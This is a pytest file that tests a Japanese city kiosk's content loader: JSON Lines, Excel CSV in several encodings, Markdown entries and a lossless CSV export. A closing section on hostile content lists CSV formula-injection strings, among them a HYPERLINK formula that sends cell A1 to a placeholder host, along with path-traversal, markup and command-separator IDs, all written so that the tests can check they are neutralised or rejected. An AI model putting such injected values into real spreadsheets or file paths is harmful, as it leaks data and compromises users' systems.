"""Content files as staff write them (JSON Lines, CSV from Excel, Markdown folders): good
files load, every kind of bad file is rejected with file, line/row and field named, and the
CSV export loads back unchanged."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from kiosk import DATA_DIR
from kiosk.config import ContentSettings
from kiosk.content.contract import Entry
from kiosk.content.entries import (
    ContentError,
    csv_bytes,
    join_keywords,
    load_content,
    split_keywords,
    validate_content,
    write_csv,
)

GOOD = {"id": "library-hours", "title": "図書館は何時まで開いていますか",
        "body": "中央図書館は、午前9時から午後8時までです。", "category": "図書館",
        "keywords": ["図書館", "開館時間"], "updated": "2026-11-27",
        "source": "厚木市ホームページ"}  # an entry without any source gets a warning


def jsonl(path: Path, *rows: dict | str) -> Path:
    lines = [r if isinstance(r, str) else json.dumps(r, ensure_ascii=False) for r in rows]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def errors(problems) -> list[str]:
    return [str(p) for p in problems if not p.warning]


def warnings(problems) -> list[str]:
    return [str(p) for p in problems if p.warning]


# ----------------------------------------------------------------------------- JSON Lines


def test_jsonl_loads_every_field(tmp_path):
    row = {**GOOD, "spoken": "図書館は夜8時までです。", "source": "厚木市", "address": "中町1",
           "phone": "046-223-0033", "hours": "9:00〜20:00", "lat": 35.44, "lon": 139.36}
    (entry,) = load_content(jsonl(tmp_path / "a.jsonl", row))
    assert entry == Entry(**{**row, "keywords": ("図書館", "開館時間")})


def test_jsonl_every_bad_line_is_reported_with_line_and_field(tmp_path):
    f = jsonl(tmp_path / "bad.jsonl",
              GOOD,
              "{not json",
              '["a list"]',
              {**GOOD, "id": "t2", "title": 12},
              {**GOOD, "id": "t3", "title": ""},
              {"id": "t4", "title": "x"},
              {**GOOD, "id": "t5", "lat": 135.2, "lon": 35.1},
              {**GOOD, "id": "t6", "lat": 35.1},
              {**GOOD, "id": "t7", "updated": "2026-13-45"},
              {**GOOD, "id": "t8", "body": "ベル\x07が鳴る"},
              {**GOOD, "id": "t9", "title": "あ" * 201},
              {**GOOD, "id": "t 10"},
              {**GOOD, "id": "t11", "keywords": ["ok", 3]},
              '{"id": "t12", "id": "t12b", "title": "x", "body": "y"}',
              {**GOOD, "id": "t13", "lat": "north", "lon": 139.0},
              {**GOOD, "id": "t14", "title": "一行目\n二行目"},
              {**GOOD, "id": "t15", "body": "文字化け\ufffdです"})
    entries, problems = validate_content(f)
    assert [e.id for e in entries] == ["library-hours"]
    found = errors(problems)
    expect = [
        (2, None, "is not valid JSON"),
        (3, None, "this looks like one JSON array"[:0] or "must be one entry in braces"),
        (4, "title", "must be text, not a number"),
        (5, "title", "is empty"),
        (6, "body", "is missing"),
        (7, "lat", "is not a possible latitude"),
        (8, "lon", "is missing while 'lat' is given"),
        (9, "updated", "is not a date"),
        (10, "body", "control character (U+0007)"),
        (11, "title", "is 201 characters long; at most 200"),
        (12, "id", "contains a space"),
        (13, "keywords", "one is a number"),
        (14, "id", "appears twice"),
        (15, "lat", "is not a number"),
        (16, "title", "must be one line"),
        (17, "body", "damaged by a wrong encoding"),
    ]
    for line, field, text in expect:
        prefix = f"{f}:{line}: " + (f"'{field}' " if field else "")
        assert any(m.startswith(prefix) and text in m for m in found), (line, field, found)
    assert len(found) == len(expect), found


def test_a_json_array_file_gets_a_hint(tmp_path):
    f = tmp_path / "all.jsonl"
    f.write_text(json.dumps([GOOD], ensure_ascii=False), encoding="utf-8")
    _, problems = validate_content(f)
    assert "one JSON array" in errors(problems)[0]


def test_duplicate_ids_name_both_places(tmp_path):
    a = jsonl(tmp_path / "a.jsonl", {**GOOD, "id": "x1"}, {**GOOD, "id": "dup"})
    b = tmp_path / "b.csv"
    b.write_text("id,title,body\nother,t,b\ndup,t,b\n", encoding="utf-8")
    entries, problems = validate_content([a, b])
    (message,) = errors(problems)
    assert message.startswith(f"{b}:3: 'id' 'dup' is used twice")
    assert f"{a}:2" in message and f"{b}:3" in message
    assert [e.id for e in entries] == ["x1", "dup", "other"]


def test_unknown_keys_warn_but_do_not_block(tmp_path):
    f = jsonl(tmp_path / "a.jsonl", {**GOOD, "colour": "red"})
    entries, problems = validate_content(f)
    assert len(entries) == 1 and not errors(problems)
    assert warnings(problems) == [f"{f}:1: warning: 'colour' is not a known field and is "
                                  f"ignored; known fields: {', '.join(Entry.__dataclass_fields__)}"]


def test_long_spoken_sentences_get_a_plain_japanese_warning(tmp_path):
    long = "この手続きは、本人確認書類と印鑑と通知カードとマイナンバーカードを持って、市役所の一階にある市民課の窓口に来てください"
    f = jsonl(tmp_path / "a.jsonl", {**GOOD, "spoken": f"短い文です。{long}。"})
    entries, problems = validate_content(f, ContentSettings(max_spoken_sentence_chars=40))
    assert len(entries) == 1
    (w,) = warnings(problems)
    assert "'spoken' sentence 2 is" in w and "やさしい日本語" in w


def test_coordinates_outside_japan_warn(tmp_path):
    f = jsonl(tmp_path / "a.jsonl", {**GOOD, "lat": -35.4, "lon": 139.3})
    entries, problems = validate_content(f)
    assert entries and "outside Japan" in warnings(problems)[0]


def test_load_content_raises_with_every_error(tmp_path):
    f = jsonl(tmp_path / "a.jsonl", {"id": "a"}, {"id": "b", "title": "t"})
    with pytest.raises(ContentError) as exc:
        load_content(f)
    assert len([p for p in exc.value.problems if not p.warning]) == 3
    assert "3 problem(s) in the content; nothing was changed" in str(exc.value)
    assert f"{f}:2: 'body' is missing" in str(exc.value)


def test_field_limits_come_from_settings(tmp_path):
    f = jsonl(tmp_path / "a.jsonl", {**GOOD, "keywords": ["a", "b", "c"]})
    _, problems = validate_content(f, ContentSettings(max_keywords=2, max_body_chars=5))
    found = "\n".join(errors(problems))
    assert "'keywords' has 3 keywords; at most 2" in found
    assert "'body' is 22 characters long; at most 5" in found


# ------------------------------------------------------------------------------ files


def test_binary_and_wrong_kinds_of_file_are_refused(tmp_path):
    xlsx = tmp_path / "content.csv"
    xlsx.write_bytes(b"PK\x03\x04\x14\x00\x06\x00" + b"\x00" * 40)
    junk = tmp_path / "junk.jsonl"
    junk.write_bytes(bytes(range(256)) * 4)
    utf16 = tmp_path / "u16.csv"
    utf16.write_bytes("id,title,body\n".encode("utf-16"))
    book = tmp_path / "book.xlsx"
    book.write_bytes(b"PK")
    missing = tmp_path / "nope.csv"
    _, problems = validate_content([xlsx, junk, utf16, book, missing])
    found = errors(problems)
    for start in (f"{xlsx}: is an Excel workbook or zip file; save the content as CSV",
                  f"{junk}: is a binary file, not text",
                  f"{utf16}: is saved as UTF-16",
                  f"{book}: is not a content file (Excel workbooks cannot be read",
                  f"{missing}: does not exist"):
        assert any(m.startswith(start) for m in found), (start, found)
    assert len(found) == 5


def test_oversize_file_is_refused_before_reading(tmp_path):
    f = jsonl(tmp_path / "a.jsonl", GOOD)
    _, problems = validate_content(f, ContentSettings(max_file_bytes=10))
    assert "bytes are refused" in errors(problems)[0]


def test_empty_files_and_folders_are_errors(tmp_path):
    (tmp_path / "empty.jsonl").write_text("\n\n", encoding="utf-8")
    (tmp_path / "empty.csv").write_text("", encoding="utf-8")
    (tmp_path / "nothing").mkdir()
    _, problems = validate_content([tmp_path / "empty.jsonl", tmp_path / "empty.csv",
                                    tmp_path / "nothing"])
    found = errors(problems)
    assert any("empty.jsonl: has no entries" in m for m in found)
    assert any("empty.csv: is empty; the first row must name the columns" in m for m in found)
    assert any("nothing: is a folder with no content files" in m for m in found)


# --------------------------------------------------------------------------------- CSV


CSV_TEXT = ("id,title,body,keywords,updated,lat,lon\r\n"
            "gomi,ごみの日はいつですか,\"地区ごとに違います。\n収集カレンダーを見てください。\","
            "ごみ、収集日、カレンダー,2026/11/7,35.44,139.36\r\n"
            ",,,,,,\r\n"
            "wifi,無料Wi-Fiはありますか,駅の周りで使えます。,ワイファイ|Wi-Fi,,,\r\n")


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "shift_jis", "cp932"])
def test_csv_in_every_excel_encoding(tmp_path, encoding):
    f = tmp_path / "a.csv"
    f.write_bytes(CSV_TEXT.encode(encoding))
    gomi, wifi = load_content(f)
    assert gomi.id == "gomi" and gomi.title == "ごみの日はいつですか"
    assert gomi.body == "地区ごとに違います。\n収集カレンダーを見てください。"
    assert gomi.keywords == ("ごみ", "収集日", "カレンダー")
    assert gomi.updated == "2026-11-07"
    assert (gomi.lat, gomi.lon) == (35.44, 139.36)
    assert wifi.keywords == ("ワイファイ", "Wi-Fi")


def test_csv_japanese_column_names(tmp_path):
    f = tmp_path / "a.csv"
    f.write_bytes("ID,質問,回答,分類,キーワード,緯度,経度\r\nq1,住民票,市民課で取れます,手続き,住民票の写し,,\r\n"
                  .encode("cp932"))
    (e,) = load_content(f)
    assert (e.id, e.title, e.body, e.category, e.keywords) == (
        "q1", "住民票", "市民課で取れます", "手続き", ("住民票の写し",))


def test_csv_rows_are_numbered_like_excel(tmp_path):
    f = tmp_path / "a.csv"
    f.write_text('id,title,body\r\nok,t,"two\nlines"\r\nbad,,b\r\nx,t,b,extra\r\n',
                 encoding="utf-8")
    _, problems = validate_content(f)
    assert errors(problems) == [
        f"{f}:3: 'title' is empty",
        f"{f}:4: has 4 cells but the header has 3; a comma inside a cell needs the whole cell "
        "in double quotes",
    ]


def test_csv_header_problems(tmp_path):
    no_title = tmp_path / "a.csv"
    no_title.write_text("id,body\nx,y\n", encoding="utf-8")
    tabs = tmp_path / "b.csv"
    tabs.write_text("id\ttitle\tbody\nx\ty\tz\n", encoding="utf-8")
    twice = tmp_path / "c.csv"
    twice.write_text("id,title,タイトル,body\n", encoding="utf-8")
    quote = tmp_path / "d.csv"
    quote.write_text('id,title,body\nx,"unclosed,b\n', encoding="utf-8")
    _, problems = validate_content([no_title, tabs, twice, quote])
    found = errors(problems)
    assert found[0].startswith(f"{no_title}:1: the header row has no 'title' column")
    assert found[1].startswith(f"{tabs}:1: the file is separated by tabs")
    assert found[2].startswith(f"{twice}:1: 'title' (column 3) appears twice")
    assert found[3].startswith(f"{quote}:2: cannot be read as CSV")
    assert len(found) == 4


def test_undecodable_bytes_are_reported_with_their_row(tmp_path):
    # A UTF-8 file where someone pasted one Shift_JIS line.
    f = tmp_path / "mixed.csv"
    f.write_bytes("id,title,body\r\na,図書館,本文\r\n".encode("utf-8")
                  + "b,公民館,本文\r\n".encode("cp932")
                  + "c,体育館,本文\r\n".encode("utf-8"))
    entries, problems = validate_content(f)
    assert [e.id for e in entries] == ["a", "c"]
    (message,) = errors(problems)
    assert message.startswith(f"{f}:3: (line 3 of the file) has bytes that are not UTF-8 text")
    # …and a Shift_JIS file with a broken byte.
    g = tmp_path / "sjis.csv"
    g.write_bytes("id,title,body\r\na,図書館,本文\r\n".encode("cp932") + b"b,\x81,x\r\n")
    entries, problems = validate_content(g)
    assert [e.id for e in entries] == ["a"]
    assert errors(problems)[0].startswith(f"{g}:3: (line 3 of the file) has bytes that are not "
                                          "Shift_JIS text")


def test_undecodable_jsonl_line(tmp_path):
    f = tmp_path / "a.jsonl"
    f.write_bytes(json.dumps(GOOD, ensure_ascii=False).encode() + b"\n{\"id\": \"\xff\xfe\"}\n")
    entries, problems = validate_content(f)
    assert len(entries) == 1
    assert errors(problems)[0].startswith(f"{f}:2: has bytes that are not UTF-8 text")


# ---------------------------------------------------------------------------- Markdown


def test_markdown_folder(tmp_path):
    folder = tmp_path / "entries"
    (folder / "facilities").mkdir(parents=True)
    (folder / "library.md").write_text(
        "---\nid: library-hours\ntitle: 図書館は何時まで開いていますか\ncategory: 図書館\n"
        "keywords: [図書館、開館時間]\nspoken: |\n  図書館は夜8時までです。\n  月曜日は休みです。\n"
        "updated: 2026-11-27\nsource: 厚木市ホームページ\n---\n\n中央図書館は、午前9時から午後8時までです。\n\n月曜日は休館日です。\n",
        encoding="utf-8")
    (folder / "facilities" / "kouminkan.md").write_text(
        "---\ncategory: 施設\nkeywords:\n  - 公民館\n  - こうみんかん\nlat: 35.44\nlon: 139.36\n"
        "source_url: https://www.city.atsugi.kanagawa.jp/\n---\n"
        "# 公民館の場所\n\n公民館は市内に15か所あります。\n", encoding="utf-8")
    (folder / "README.md").write_text("# notes for staff\n", encoding="utf-8")
    (folder / ".hidden.md").write_text("junk", encoding="utf-8")
    entries, problems = validate_content(folder)
    assert not errors(problems)
    assert warnings(problems) == [f"{folder / 'README.md'}: warning: skipped: a README is notes "
                                  "for people, not an entry"]
    kouminkan, library = entries
    assert library.spoken == "図書館は夜8時までです。\n月曜日は休みです。"
    assert library.body == "中央図書館は、午前9時から午後8時までです。\n\n月曜日は休館日です。"
    assert library.keywords == ("図書館", "開館時間")
    assert kouminkan.id == "kouminkan" and kouminkan.title == "公民館の場所"
    assert kouminkan.keywords == ("公民館", "こうみんかん") and kouminkan.lat == 35.44


def test_markdown_problems_point_at_the_line(tmp_path):
    a = tmp_path / "a.md"
    a.write_text("---\nid: a\ntitle: x\nupdated: yesterday\n---\n本文\n", encoding="utf-8")
    b = tmp_path / "b.md"
    b.write_text("---\nid: b\ntitle: x\n", encoding="utf-8")
    c = tmp_path / "c.md"
    c.write_text("---\nid: c\nthis line is wrong\ntitle: x\n---\n本文\n", encoding="utf-8")
    d = tmp_path / "d.md"
    d.write_text("---\nid: d\ntitle: x\n---\n\n", encoding="utf-8")
    _, problems = validate_content([a, b, c, d])
    assert errors(problems) == [
        f"{a}:4: 'updated' is not a date: 'yesterday'; write year-month-day, e.g. 2026-11-27",
        f"{b}:1: the front matter starts with '---' here but has no closing '---' line; add "
        "one after the last 'name: value' line",
        f"{c}:3: is not a 'name: value' line ('this line is wrong'); write one field per line, "
        "e.g. 'title: 図書館の開館時間'",
        f"{d}:1: 'body' is missing",
    ]


# --------------------------------------------------------------------------- CSV export


def test_keyword_cells_split_and_join_back():
    for words in [("a", "b"), ("住民票、写し",), ("a,b", "c"), (), ("ワイファイ",)]:
        assert tuple(split_keywords(join_keywords(words))) == words
    assert split_keywords("ごみ、収集日") == ["ごみ", "収集日"]
    assert split_keywords("a、b|c") == ["a、b", "c"]


def test_csv_export_round_trips_the_bundled_content(tmp_path):
    entries = load_content(sorted(DATA_DIR.glob("*.jsonl")))
    tricky = [
        Entry(id="q-1", title='引用符 "と" カンマ, のタイトル', body="一行目\n\n三行目、=1+1",
              spoken="短い文。", keywords=("住民票、写し",), lat=35.123456789012, lon=139.0,
              updated="2026-11-27T09:30:00"),
        Entry(id="q-2", title="キーワードなし", body=" 先頭の空白は消えます ".strip(),
              keywords=("a,b", "c")),
    ]
    out = write_csv(entries + tricky, tmp_path / "export.csv")
    assert out.read_bytes().startswith(b"\xef\xbb\xbfid,title,body,")
    assert load_content(out) == entries + tricky
    assert csv_bytes(load_content(out)) == out.read_bytes()


# ------------------------------------------------------------ hostile content (#15)

FORMULAS = ["=HYPERLINK(\"http://example.invalid/?\"&A1,\"詳しくはこちら\")", "+81-46-223-1511",
            "-休館日は月曜日", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "'=already quoted", "''", "'"]


def test_csv_export_neutralises_formulas_and_reads_back_unchanged(tmp_path):
    import csv
    import io

    entries = [Entry(id=f"formula-{n}", title=text.strip() or "題", body=text.strip() + " 本文",
                     category=text.strip()[:10].strip() or "分類", keywords=(text.strip() or "語",),
                     phone=text.strip(), hours=text.strip(), lat=-35.44, lon=139.36)
               for n, text in enumerate(FORMULAS)]
    data = csv_bytes(entries)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    cells = [c for row in rows[1:] for c in row]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")
                 and c not in ("-35.44",)]
    assert not dangerous
    assert "'=HYPERLINK(" in data.decode("utf-8-sig")
    path = write_csv(entries, tmp_path / "export.csv")
    assert load_content(path) == entries  # lossless round trip


def test_a_hand_written_leading_apostrophe_is_kept(tmp_path):
    path = tmp_path / "hand.csv"
    path.write_text("id,title,body\nquote-1,'80年代の写真展,'ほんもの' と書いた本文\n",
                    encoding="utf-8")
    [entry] = load_content(path)
    assert entry.title == "'80年代の写真展" and entry.body == "'ほんもの' と書いた本文"


@pytest.mark.parametrize("bad_id", ["../../etc/x", "<b>x</b>", "a/b", "x;y", "図書館", "-x",
                                    ".hidden", "a\\b", "x\"y"])
def test_entry_ids_must_be_letters_digits_and_dashes(tmp_path, bad_id):
    rows = [GOOD, {**GOOD, "id": bad_id, "title": "二つ目"}]
    _, problems = validate_content(jsonl(tmp_path / "ids.jsonl", *rows))
    [problem] = errors(problems)
    assert "ids.jsonl:2:" in problem
    assert "letters, digits" in problem


def test_good_ids_still_pass(tmp_path):
    rows = [{**GOOD, "id": i, "title": f"題 {i}"} for i in
            ("library-hours", "faq-001", "A1", "kouminkan_2", "x")]
    entries, problems = validate_content(jsonl(tmp_path / "ok.jsonl", *rows))
    assert not errors(problems) and len(entries) == 5
